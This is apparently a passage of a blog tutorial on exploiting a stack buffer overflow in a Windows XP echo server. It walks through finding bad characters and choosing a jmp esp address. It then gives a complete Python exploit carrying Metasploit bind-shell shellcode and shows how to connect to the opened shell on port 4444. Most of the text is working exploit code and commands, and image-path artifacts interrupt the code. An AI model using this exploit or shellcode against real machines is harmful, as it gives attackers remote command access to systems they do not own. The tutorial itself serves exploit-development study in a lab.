#!/usr/bin/env python #Import Libraries import socket import sys#Create Socket s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)


offset_eip = int(sys.argv[3]) string = ‘A’*offset_eip

#Insert here the esp address or the address of the jmp esp code in reverse order for example to send 0x31323334 use \x34\x33\x32\x31 string += ‘\x34\x33\x32\x31’

#NOOP Instuction to glue the EIP and the shellcode string += ‘\x90’*10

#Insert here the shellcode string += “shellcode”

#Send the string s.send(string)

#Close connection s.close()

Determine the bad characters

As we said, the first thing that we are going to do instead to send the payload with the last script created is to find the bad characters, to do this you should need to modify the last script a little bit, the changes that you have to make are:

  • Comment the line: string += ‘\x34\x33\x32\x31’

  • Comment the line: string += ‘\x90’*10

  • Comment the line: string += ‘shellcode’

  • Add the following code below the line: string = ‘A’*offset_eip

string +=(“\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0A\x0B\x0C\x0D\x0E\x0F” “\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1A\x1B\x1C\x1D\x1E\x1F” “\x20\x21\x22\x23\x24\x25\x26\x27\x28\x29\x2A\x2B\x2C\x2D\x2E\x2F” “\x30\x31\x32\x33\x34\x35\x36\x37\x38\x39\x3A\x3B\x3C\x3D\x3E\x3F” “\x40\x41\x42\x43\x44\x45\x46\x47\x48\x49\x4A\x4B\x4C\x4D\x4E\x4F” “\x50\x51\x52\x53\x54\x55\x56\x57\x58\x59\x5A\x5B\x5C\x5D\x5E\x5F”“\x60\x61\x62\x63\x64\x65\x66\x67\x68\x69\x6A\x6B\x6C\x6D\x6E\x6F” “\x70\x71\x72\x73\x74\x75\x76\x77\x78\x79\x7A\x7B\x7C\x7D\x7E\x7F” “\x80\x81\x82\x83\x84\x85\x86\x87\x88\x89\x8A\x8B\x8C\x8D\x8E\x8F” “\x90\x91\x92\x93\x94\x95\x96\x97\x98\x99\x9A\x9B\x9C\x9D\x9E\x9F” “\xA0\xA1\xA2\xA3\xA4\xA5\xA6\xA7\xA8\xA9\xAA\xAB\xAC\xAD\xAE\xAF” “\xB0\xB1\xB2\xB3\xB4\xB5\xB6\xB7\xB8\xB9\xBA\xBB\xBC\xBD\xBE\xBF” “\xC0\xC1\xC2\xC3\xC4\xC5\xC6\xC7\xC8\xC9\xCA\xCB\xCC\xCD\xCE\xCF” “\xD0\xD1\xD2\xD3\xD4\xD5\xD6\xD7\xD8\xD9\xDA\xDB\xDC\xDD\xDE\xDF” “\xE0\xE1\xE2\xE3\xE4\xE5\xE6\xE7\xE8\xE9\xEA\xEB\xEC\xED\xEE\xEF” “\xF0\xF1\xF2\xF3\xF4\xF5\xF6\xF7\xF8\xF9\xFA\xFB\xFC\xFD\xFE\xFF”)

What we did is creating a string formed by a number of “A” (whose binary is \x41) specified in the arguments of the script followed by a string formed by binary from 0x00 to 0xFF, save the script as, reset the Immunity Debugger or Open it, load and run echo_server.exe. Execute the by using the command:

python IP_ADDRESS 10000 150

Replace IP_ADDRESS by the ip address of you windows XP machine where is running the Echo Server, with this command we are going to send 150 ‘A’’s followed by the string formed by the binary 0x00 to 0xFF, obviously the Echo Server will crash and we are going to analyze the string processed.

Go to the Immunity Debugger and select with the right button the ESP Register and select “Follow in Dump”, with this we jumping to the ESP Address on the Memory Pane, scroll up and you will see a lot of A’s in the Ascii part and in the Hex dump you will see a lot of 0x41, if all the string was processed you will see a string like this: “41 41 41 41 41 41 … 41 41 41 00 01 02 03 04 05 … FC FD FE FF”, as you could see on the figure not all the string was processed and “00 01 02…” is missing, so we couldassume that 0x00 is a bad character.

Bad Characcter 1

Now we delete from the string to send on the script the binary \x00 and repeat the whole process again. Now we could see that all the string was processed.

Bad Character 2
Bad Character 4

That tell us that the only bad character is 0x00 and we could not use it. Now if you remember our ESP address is 0x0022FD30 that contains a 0x00 character that is why we create the table with all the “jmp esp” we need to choose one address that has not the 0x00 character, so the process will be like the figure below:


Payload to send

As I said earlier I am not going to explain the payload to send in depth, it is enough to say that I use metasploit to generate the code, I use a single stage payload called shell_bind_tcp that by default begin a server that pipe a shell using the port 4444, I also encoded the payload in x86 and using as bad characters ‘\x00’ the output was:

“\xd9\xf7\xd9\x74\x24\xf4\x5a\x2b\xc9\xb1\x56\xbe\x51\xa8” “\xaa\xd9\x31\x72\x18\x03\x72\x18\x83\xc2\x55\x4a\x5f\x25” “\xbd\x03\xa0\xd6\x3d\x74\x28\x33\x0c\xa6\x4e\x37\x3c\x76” “\x04\x15\xcc\xfd\x48\x8e\x47\x73\x45\xa1\xe0\x3e\xb3\x8c” “\xf1\x8e\x7b\x42\x31\x90\x07\x99\x65\x72\x39\x52\x78\x73” “\x7e\x8f\x72\x21\xd7\xdb\x20\xd6\x5c\x99\xf8\xd7\xb2\x95” “\x40\xa0\xb7\x6a\x34\x1a\xb9\xba\xe4\x11\xf1\x22\x8f\x7e”“\x22\x52\x5c\x9d\x1e\x1d\xe9\x56\xd4\x9c\x3b\xa7\x15\xaf” “\x03\x64\x28\x1f\x8e\x74\x6c\x98\x70\x03\x86\xda\x0d\x14” “\x5d\xa0\xc9\x91\x40\x02\x9a\x02\xa1\xb2\x4f\xd4\x22\xb8” “\x24\x92\x6d\xdd\xbb\x77\x06\xd9\x30\x76\xc9\x6b\x02\x5d” “\xcd\x30\xd1\xfc\x54\x9d\xb4\x01\x86\x79\x69\xa4\xcc\x68” “\x7e\xde\x8e\xe4\xb3\xed\x30\xf5\xdb\x66\x42\xc7\x44\xdd” “\xcc\x6b\x0d\xfb\x0b\x8b\x24\xbb\x84\x72\xc6\xbc\x8d\xb0” “\x92\xec\xa5\x11\x9a\x66\x36\x9d\x4f\x28\x66\x31\x3f\x89” “\xd6\xf1\xef\x61\x3d\xfe\xd0\x92\x3e\xd4\x67\x95\xf0\x0c” “\x24\x72\xf1\xb2\xdb\xde\x7c\x54\xb1\xce\x28\xce\x2d\x2d” “\x0f\xc7\xca\x4e\x65\x7b\x43\xd9\x31\x95\x53\xe6\xc1\xb3” “\xf0\x4b\x69\x54\x82\x87\xae\x45\x95\x8d\x86\x0c\xae\x46” “\x5c\x61\x7d\xf6\x61\xa8\x15\x9b\xf0\x37\xe5\xd2\xe8\xef” “\xb2\xb3\xdf\xf9\x56\x2e\x79\x50\x44\xb3\x1f\x9b\xcc\x68” “\xdc\x22\xcd\xfd\x58\x01\xdd\x3b\x60\x0d\x89\x93\x37\xdb” “\x67\x52\xee\xad\xd1\x0c\x5d\x64\xb5\xc9\xad\xb7\xc3\xd5” “\xfb\x41\x2b\x67\x52\x14\x54\x48\x32\x90\x2d\xb4\xa2\x5f” “\xe4\x7c\xd2\x15\xa4\xd5\x7b\xf0\x3d\x64\xe6\x03\xe8\xab” “\x1f\x80\x18\x54\xe4\x98\x69\x51\xa0\x1e\x82\x2b\xb9\xca” “\xa4\x98\xba\xde”

The command used to generate the code ina Kali linux Machine was:

msfpayload windows/shell_bind_tcp R | msfencode -a x86 -b “\x00”

We replace the EIP address with one of the addresses that the pycommand print on the table that do not contain the bad character 0x00, and instead of “shell code” we copy the payload shown above, the final script to use is:

#!/usr/bin/env python #Import Libraries import socket import sys

#Create Socket s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)


offset_eip = int(sys.argv[3]) string = ‘A’*offset_eip

#Insert here the esp address or the address of the jmp esp code in reverse order for example to send 0x31323334 use \x34\x33\x32\x31 string += ‘\xd8\xfc\x91\x7c’

#NOOP Instuction to glue the EIP and the shellcode string += ‘\x90’*10

#Insert here the shellcode string += (“\xd9\xf7\xd9\x74\x24\xf4\x5a\x2b\xc9\xb1\x56\xbe\x51\xa8” “\xaa\xd9\x31\x72\x18\x03\x72\x18\x83\xc2\x55\x4a\x5f\x25” “\xbd\x03\xa0\xd6\x3d\x74\x28\x33\x0c\xa6\x4e\x37\x3c\x76” “\x04\x15\xcc\xfd\x48\x8e\x47\x73\x45\xa1\xe0\x3e\xb3\x8c” “\xf1\x8e\x7b\x42\x31\x90\x07\x99\x65\x72\x39\x52\x78\x73”“\x7e\x8f\x72\x21\xd7\xdb\x20\xd6\x5c\x99\xf8\xd7\xb2\x95” “\x40\xa0\xb7\x6a\x34\x1a\xb9\xba\xe4\x11\xf1\x22\x8f\x7e” “\x22\x52\x5c\x9d\x1e\x1d\xe9\x56\xd4\x9c\x3b\xa7\x15\xaf” “\x03\x64\x28\x1f\x8e\x74\x6c\x98\x70\x03\x86\xda\x0d\x14” “\x5d\xa0\xc9\x91\x40\x02\x9a\x02\xa1\xb2\x4f\xd4\x22\xb8” “\x24\x92\x6d\xdd\xbb\x77\x06\xd9\x30\x76\xc9\x6b\x02\x5d”“\xcd\x30\xd1\xfc\x54\x9d\xb4\x01\x86\x79\x69\xa4\xcc\x68” “\x7e\xde\x8e\xe4\xb3\xed\x30\xf5\xdb\x66\x42\xc7\x44\xdd” “\xcc\x6b\x0d\xfb\x0b\x8b\x24\xbb\x84\x72\xc6\xbc\x8d\xb0” “\x92\xec\xa5\x11\x9a\x66\x36\x9d\x4f\x28\x66\x31\x3f\x89”“\xd6\xf1\xef\x61\x3d\xfe\xd0\x92\x3e\xd4\x67\x95\xf0\x0c” “\x24\x72\xf1\xb2\xdb\xde\x7c\x54\xb1\xce\x28\xce\x2d\x2d” “\x0f\xc7\xca\x4e\x65\x7b\x43\xd9\x31\x95\x53\xe6\xc1\xb3” “\xf0\x4b\x69\x54\x82\x87\xae\x45\x95\x8d\x86\x0c\xae\x46” “\x5c\x61\x7d\xf6\x61\xa8\x15\x9b\xf0\x37\xe5\xd2\xe8\xef” “\xb2\xb3\xdf\xf9\x56\x2e\x79\x50\x44\xb3\x1f\x9b\xcc\x68” “\xdc\x22\xcd\xfd\x58\x01\xdd\x3b\x60\x0d\x89\x93\x37\xdb” “\x67\x52\xee\xad\xd1\x0c\x5d\x64\xb5\xc9\xad\xb7\xc3\xd5” “\xfb\x41\x2b\x67\x52\x14\x54\x48\x32\x90\x2d\xb4\xa2\x5f” “\xe4\x7c\xd2\x15\xa4\xd5\x7b\xf0\x3d\x64\xe6\x03\xe8\xab” “\x1f\x80\x18\x54\xe4\x98\x69\x51\xa0\x1e\x82\x2b\xb9\xca” “\xa4\x98\xba\xde”)

#Send the string s.send(string)

#Close connection s.close()

Save it as send_payload, execute echo_server.exe without thedebugger and run the scriptsend_payload with the following command:

python IP_ADDRESS 10000 140

We use 140 as the first offset because that was the analyse_crash pycommand in Immunity gave us, the script will run and exit. On the Windows XP machine the echo_server should be up and running, note that we send a string greater than 150 bytes but echo_server.exe did not crash, because we override the exception and exploited the buffer overflow. To prove that the payload was loaded try to connect to the ip address of the windows XP machine using the port 4444, use the command:

telnet IP_ADDRESS 4444 (or you could use net cat if installed with “nc IP_Address 4444”)

You should be presented with the Windows XP command line like on the figure below:


If you get the shell the the Exploitation was successful, meaning that you have control of the Windows XP machine. If you need help with Metasploit there are a very good videos in this site. I hope that you enjoyed this post as much as Idid writing it, if you need any help please drop me some lines using the forms in the about page.Note that the scripts and codes loose all the formatwhen copied in the blog so you will need to reformat it when copied to a text editor.